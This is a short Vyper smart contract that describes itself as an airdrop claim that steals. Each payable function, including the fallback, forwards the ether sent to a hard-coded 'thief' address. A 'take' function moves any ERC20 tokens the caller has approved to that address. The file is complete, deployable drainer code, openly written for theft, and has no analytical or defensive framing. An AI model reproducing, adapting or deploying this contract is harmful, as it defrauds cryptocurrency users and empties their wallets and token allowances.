# pragma version 0.4.3
# A claim that promises an airdrop, takes the coins sent along, and takes whatever allowance it finds.
from ethereum.ercs import IERC20

thief: immutable(address)

@deploy
def __init__(to: address):
    thief = to

@external
@payable
def claim():
    send(thief, msg.value, gas=100000)

@external
@payable
def claimFor(account: address, amount: uint256):
    send(thief, msg.value, gas=100000)

@external
@payable
def take(token: address, amount: uint256):
    extcall IERC20(token).transferFrom(msg.sender, thief, amount, default_return_value=True)

@external
@payable
def __default__():
    send(thief, msg.value, gas=100000)
